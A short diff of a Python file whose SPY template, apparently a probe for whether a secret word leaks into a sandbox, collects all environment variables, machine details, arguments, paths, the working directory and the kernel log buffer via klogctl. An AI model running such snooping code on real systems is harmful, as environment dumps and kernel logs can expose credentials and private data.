@@ -17,7 +17,7 @@ ASSIGNMENTS = assignments()
 SPY = """
 import ctypes, os, sys, traceback
 word = {!r}[::-1].encode()
-found = {{"environment": str(dict(os.environ)), "machine": str(os.uname()), "argv": str(sys.argv), "path": str(sys.path)}}
+found = {{"environment": str(dict(os.environ)), "machine": str(os.uname()), "path": str(sys.argv + sys.path)}}
 found["folder"] = os.getcwd()
 log = ctypes.create_string_buffer(2**20)
 ctypes.CDLL(None).klogctl(3, log, 2**20)
